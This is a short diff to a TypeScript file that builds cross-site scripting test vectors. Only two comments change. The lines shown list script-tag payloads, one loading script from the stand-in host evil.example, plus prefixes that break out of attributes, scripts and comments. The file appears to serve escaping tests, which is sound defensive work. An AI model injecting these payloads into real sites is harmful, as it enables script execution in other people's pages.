@@ -1,4 +1,4 @@
-/** Ways to make a browser run `alert(1)`, by what a careless page would do with a text. */
+/** Ways to make a browser run `alert(1)` if a page handles text carelessly. */
 const vectors = [
   '<script>alert(1)</script>',
   '<script src=//evil.example></script>',
@@ -53,7 +53,7 @@ const vectors = [
   '\u202e<script>alert(1)</script>',
 ] as const
 
-/** What leaves the place that a text stands in: an element, an attribute, a script, a comment. */
+/** Prefixes that leave the context of a text: an element, an attribute, a script or a comment. */
 const exits = ['', '">', "'>", '</script>', '"});alert(1)//', '--></title></textarea></style>'] as const
 
 /** Three hundred texts of at most a hundred characters. */
